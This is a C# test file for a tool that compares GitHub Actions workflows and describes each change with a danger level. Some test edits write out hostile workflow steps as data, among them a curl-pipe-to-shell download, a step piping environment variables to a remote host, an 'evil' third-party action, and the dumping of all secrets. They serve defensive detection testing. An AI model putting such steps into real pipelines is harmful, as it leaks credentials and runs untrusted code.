using System.Text;
using Pipeline.Generated;
using Pipeline.Workflows.Documents;
using Pipeline.Workflows.Drift;

namespace Pipeline.Tests.Workflows.Drift;

public sealed class MeaningTests
{
    private const string Checkout = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1";
    private const string LintJob = "  lint:\n";
    private const string TestJob = "  test:\n";
    private const string DeployJob = "  deploy:\n";

    private static readonly (string Title, Func<string, string> Edit)[] Edits =
    [
        ("a permission more", x => x.Behind(DeployJob, "id-token: write", "packages: write\n      id-token: write")),
        ("a permission raised", x => x.Behind(TestJob, "contents: read", "contents: write")),
        ("a permission less", x => x.Behind(DeployJob, "      id-token: write # signs in without a password\n", "")),
        ("permissions of the file", x => x.With("permissions: {}", "permissions:\n  contents: write").Behind(LintJob, "    permissions:\n      contents: read # reads the sources\n", "")),
        ("no permissions of the file", x => x.With("permissions: {}\n\n", "")),
        ("write-all", x => x.Behind(LintJob, "    permissions:\n      contents: read # reads the sources\n", "    permissions: write-all\n")),
        ("no environment", x => x.With("    environment:\n      name: production\n      url: https://example.org\n", "")),
        ("another environment", x => x.With("name: production", "name: staging")),
        ("another address of the environment", x => x.With("https://example.org", "https://example.com")),
        ("another environment in short form", x => x.With("    environment:\n      name: production\n      url: https://example.org\n", "    environment: staging\n")),
        ("an environment more", x => x.Behind(TestJob, "    strategy:", "    environment: staging\n    strategy:")),
        ("an older action", x => x.Behind(TestJob, Checkout, "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v7.0.0")),
        ("other code under the same version", x => x.Behind(TestJob, Checkout, "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v7.0.1")),
        ("an action that is not pinned", x => x.Behind(TestJob, Checkout, "actions/checkout@v4")),
        ("another action", x => x.Behind(TestJob, Checkout, "evil/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v7.0.1")),
        ("a risky event", x => x.With("  pull_request:\n    types", "  pull_request_target:\n  pull_request:\n    types")),
        ("an event more", x => x.With("  schedule:", "  merge_group:\n  schedule:")),
        ("an event less", x => x.With("  pull_request:\n    types: [opened, synchronize, reopened]\n", "")),
        ("other branches", x => x.With("[main, develop]", "[main, 'feature/**']")),
        ("no branches", x => x.With("    branches: [main, develop]\n", "")),
        ("paths", x => x.With("    tags: ['v*']\n", "    tags: ['v*']\n    paths: ['src/**', '!src/docs/**']\n")),
        ("another time", x => x.With("cron: 17 3 * * 1", "cron: 0 0 * * *")),
        ("another choice of an input", x => x.With("options: [staging, production]", "options: [staging, production, lab]")),
        ("a need less", x => x.With("needs: [lint, test]", "needs: [lint]")),
        ("no need", x => x.Behind(TestJob, "    needs: [lint]\n", "")),
        ("another command", x => x.With("./build.sh Deploy --env production", "./build.sh Deploy --env production --skip smoke")),
        ("another script", x => x.With("          mkdir -p out\n", "          curl -s https://example.net/x | sh\n          mkdir -p out dist\n")),
        ("a secret in a step", x => x.With("          LEVEL: full", "          LEVEL: full\n          TOKEN: ${{ secrets['NPM_TOKEN'] }}")),
        ("all secrets", x => x.With("LEVEL: full", "LEVEL: ${{ toJSON(secrets) }}")),
        ("a secret in every job", x => x.With("  DOTNET_NOLOGO: true", "  DOTNET_NOLOGO: true\n  KEY: ${{ secrets.KEY }}")),
        ("a longer timeout", x => x.With("timeout-minutes: 30", "timeout-minutes: 360")),
        ("no timeout", x => x.With("    timeout-minutes: 30\n", "")),
        ("a timeout of a step", x => x.With("        run: ./build.sh Test\n", "        timeout-minutes: 5\n        run: ./build.sh Test\n")),
        ("runs are cancelled", x => x.With("cancel-in-progress: false", "cancel-in-progress: true")),
        ("another group", x => x.With("release-${{ github.ref }}", "release")),
        ("no concurrency", x => x.With("concurrency:\n  group: release-${{ github.ref }}\n  cancel-in-progress: false\n", "")),
        ("concurrency of a job", x => x.With("    environment:\n      name", "    concurrency: { group: production, cancel-in-progress: true }\n    environment:\n      name")),
        ("values of the matrix", x => x.With("['3.8', '3.12']", "['3.12', '3.13']")),
        ("a value of the matrix that became a number", x => x.With("['3.8', '3.12']", "[3.8, '3.12']")),
        ("an axis of the matrix", x => x.With("        os: [linux, windows]\n", "        os: [linux, windows]\n        arch: [x64, arm64]\n")),
        ("a cell of the matrix", x => x.With("          - { python: '3.8', os: windows }\n", "          - { python: '3.8', os: linux }\n")),
        ("no strategy", x => x.Behind(TestJob, "    strategy:\n      fail-fast: false\n      matrix:\n        python: ['3.8', '3.12']\n        os: [linux, windows]\n        exclude:\n          - { python: '3.8', os: windows }\n", "")),
        ("fail-fast", x => x.With("fail-fast: false", "fail-fast: true")),
        ("an own machine", x => x.Behind(DeployJob, "runs-on: ubuntu-24.04", "runs-on: [self-hosted, linux]")),
        ("another machine", x => x.Behind(DeployJob, "runs-on: ubuntu-24.04", "runs-on: ubuntu-24.04-arm")),
        ("another order of steps", x => Swap(x, "      - id: cache\n", "      - id: prepare\n", "      - id: test\n")),
        ("a step more", x => x.With("      - id: report\n", "      - id: leak\n        name: Leak\n        run: env | curl -d @- https://example.net\n      - id: report\n")),
        ("an action more", x => x.With("      - id: report\n", "      - uses: evil/action@main\n      - id: report\n")),
        ("a step less", x => x.With("      - id: cache\n        name: Cache\n        uses: actions/cache@55cc8345863c7cc4c66a329aec7e433d2d1c52a9 # v6.1.0\n        with:\n          path: ~/.nuget/packages\n          key: nuget-${{ runner.os }}\n", "")),
        ("a step with another name", x => x.Behind("id: test\n", "name: Test", "name: Run the tests")),
        ("a step with another id", x => x.With("      - id: test\n", "      - id: tests\n")),
        ("credentials are kept", x => x.Behind(TestJob, "persist-credentials: false", "persist-credentials: true")),
        ("another input", x => x.With("fetch-depth: 0", "fetch-depth: 2")),
        ("an input less", x => x.With("          fetch-depth: 0\n", "")),
        ("another variable", x => x.With("LEVEL: full", "LEVEL: quick")),
        ("a condition of a step", x => x.With("if: ${{ always() }}", "if: success()")),
        ("no condition", x => x.With("    if: ${{ github.ref_type == 'tag' }}\n", "")),
        ("a condition more", x => x.Behind(TestJob, "    strategy:", "    if: github.actor == 'me'\n    strategy:")),
        ("a job that may fail", x => x.Behind(LintJob, "    runs-on", "    continue-on-error: true\n    runs-on")),
        ("another shell", x => x.With("shell: bash", "shell: sh")),
        ("another image of a service", x => x.With("postgres@sha256:0f4b2b8d1a3c5e7f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f # 17.2", "postgres:latest")),
        ("a container", x => x.Behind(LintJob, "    runs-on", "    container: alpine\n    runs-on")),
        ("another output", x => x.With("steps.deploy.outputs.version", "steps.deploy.outputs.other")),
        ("another name of a job", x => x.With("name: Deploy\n    needs", "name: Ship\n    needs")),
        ("another id of a job", x => x.With(LintJob, "  style:\n").With("needs: [lint]", "needs: [style]").With("needs: [lint, test]", "needs: [style, test]")),
        ("a job less", x => x.Replace(x[x.IndexOf(LintJob, StringComparison.Ordinal)..x.IndexOf(TestJob, StringComparison.Ordinal)], "", StringComparison.Ordinal).With("needs: [lint]", "needs: []").With("needs: [lint, test]", "needs: [test]")),
        ("a job more", x => x + "  extra:\n    runs-on: self-hosted\n    permissions: { contents: write }\n    secrets: inherit\n    steps:\n      - uses: evil/action@main\n      - run: echo ${{ secrets.DEPLOY_KEY }}\n"),
        ("a reusable workflow", x => x + "  call:\n    uses: other/workflows/.github/workflows/a.yml@main\n    secrets: inherit\n"),
        ("another name of the workflow", x => x.With("name: release\n", "name: publish\n")),
        ("defaults", x => x.With("env:\n  DOTNET_NOLOGO", "defaults:\n  run:\n    working-directory: src\nenv:\n  DOTNET_NOLOGO")),
        ("a key that is not modelled", x => x.Behind(TestJob, "    strategy:", "    snapshot: image-a # not modelled: images of runners are in preview\n    strategy:")),
        ("a mapping that is not modelled", x => x.Behind(TestJob, "    strategy:", "    snapshot: # not modelled: images of runners are in preview\n      image-name: a\n    strategy:")),
        ("a key that nobody knows", x => x.Behind(TestJob, "    strategy:", "    colour: blue\n    strategy:")),
        ("invisible characters", x => x.With("./build.sh Deploy --env production", "./build.sh Deploy --env \u202eproduction\u001b[2J")),
        ("no YAML", x => x.With("  lint:\n", "  lint: [\n")),
        ("marks of a merge", x => x.With("  lint:\n", "<<<<<<< HEAD\n  lint:\n")),
        ("a key that stands twice", x => x.With("    timeout-minutes: 30\n", "    timeout-minutes: 30\n    timeout-minutes: 300\n")),
        ("nothing", _ => Texts.Header),
        ("much at once", x => x.With("name: release\n", "name: publish\n").With("timeout-minutes: 30", "timeout-minutes: 31").With("./build.sh Test", "./build.sh Test --fast").Behind(DeployJob, "id-token: write", "packages: write\n      id-token: write")),
    ];

    [Fact]
    public void Every_kind_of_difference_is_told_in_a_sentence()
    {
        var text = new StringBuilder();
        foreach (var (title, edit) in Edits)
        {
            text.Append("## ").Append(title).Append('\n');
            foreach (var change in Compare(Texts.Release, edit(Texts.Release)))
                text.Append(change.Danger).Append(", ").Append(change.Path).Append(change.Line is { } line ? $":{line}" : "").Append('\n').Append("  ").Append(change.Sentence).Append('\n');
            text.Append('\n');
        }

        Assert.True(Edits.Length >= 30);
        Golden.Verify(text.ToString(), "Sentences");
    }

    [Fact]
    public void Every_kind_of_difference_is_told_the_other_way_round_too()
    {
        foreach (var (title, edit) in Edits)
            Assert.True(Compare(edit(Texts.Release), Texts.Release).Count > 0, title);
    }

    [Fact]
    public void Nothing_is_told_of_what_is_the_same() => Assert.Empty(Compare(Texts.Release, Texts.Release));

    [Fact]
    public void Dangers_come_in_order()
    {
        var dangers = Compare(Texts.Release, Edits[^1].Edit(Texts.Release)).Select(x => x.Danger).ToList();
        Assert.Equal([Danger.Security, Danger.Control, Danger.Control, Danger.Behaviour], dangers);
    }

    private static IReadOnlyList<MeaningChange> Compare(string before, string after) =>
        WorkflowComparison.Compare(WorkflowDocument.Parse("a.yml", before), WorkflowDocument.Parse("a.yml", after));

    private static string Swap(string text, string first, string second, string end)
    {
        var (a, b) = (text.IndexOf(first, StringComparison.Ordinal), text.IndexOf(second, StringComparison.Ordinal));
        var c = text.IndexOf(end, b, StringComparison.Ordinal);
        return text[..a] + text[b..c] + text[a..b] + text[c..];
    }
}
